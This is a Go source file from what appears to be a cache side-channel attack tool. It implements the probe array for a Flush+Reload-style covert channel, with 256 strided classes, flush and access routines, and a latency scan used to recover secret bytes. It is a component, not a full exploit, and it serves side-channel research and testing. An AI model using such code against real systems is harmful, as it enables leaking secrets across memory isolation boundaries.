// Package probe implements the covert channel medium: 256 probe classes,
// one per byte value, each a stride apart in a single arena.
package probe

import (
	"go.trai.ch/peek/internal/core/domain"
	"go.trai.ch/peek/internal/engine/cache"
	"go.trai.ch/peek/internal/engine/oracle"
	"go.trai.ch/zerr"
)

// MaxArenaBytes caps the arena so a bad stride fails fast instead of paging.
const MaxArenaBytes = 64 << 20

// Array is the probe array. It is allocated once and flushed, never
// reallocated, between rounds. It is owned by a single recovery at a time.
type Array struct {
	cache  *cache.Controller
	arena  []byte
	stride int
}

// New allocates an arena of ProbeClasses*stride bytes.
// The stride must be a whole number of cache lines.
func New(controller *cache.Controller, stride int) (*Array, error) {
	if stride < domain.CacheLineSize || stride%domain.CacheLineSize != 0 {
		return nil, zerr.With(zerr.With(domain.ErrInvalidAttackConfig, "field", "stride"), "value", stride)
	}

	size := stride * domain.ProbeClasses
	if size > MaxArenaBytes {
		return nil, zerr.With(zerr.With(domain.ErrProbeAllocationFailed, "bytes", size), "limit", MaxArenaBytes)
	}

	arena, err := allocArena(size)
	if err != nil {
		return nil, zerr.With(zerr.Wrap(err, domain.ErrProbeAllocationFailed.Error()), "bytes", size)
	}

	// Write every page so none of them is backed by the shared zero page,
	// which would make all classes alias one physical line.
	for i := range arena {
		arena[i] = 1
	}

	return &Array{
		cache:  controller,
		arena:  arena,
		stride: stride,
	}, nil
}

// Addr returns the base address of class.
func (a *Array) Addr(class byte) *byte {
	return a.classAddr(int(class))
}

func (a *Array) classAddr(class int) *byte {
	return &a.arena[class*a.stride]
}

// FlushAll evicts every class.
func (a *Array) FlushAll() {
	for class := range domain.ProbeClasses {
		a.cache.Flush(a.classAddr(class))
	}
}

// FlushClass evicts one class.
func (a *Array) FlushClass(class int) {
	a.cache.Flush(a.classAddr(class))
}

// AccessClass touches class repeats times.
func (a *Array) AccessClass(class, repeats int) {
	a.cache.Touch(a.classAddr(class), repeats)
}

// Scan measures every class once, in permuted order, into v.
func (a *Array) Scan(o *oracle.Oracle, v *domain.LatencyVector) {
	for i := range domain.ProbeClasses {
		class := domain.ScanIndex(i)
		v[class] = o.MeasureAccess(a.classAddr(class))
	}
}

// Close releases the arena. The array must not be used afterwards.
func (a *Array) Close() error {
	if a.arena == nil {
		return nil
	}
	err := freeArena(a.arena)
	a.arena = nil
	if err != nil {
		return zerr.Wrap(err, domain.ErrProbeReleaseFailed.Error())
	}
	return nil
}
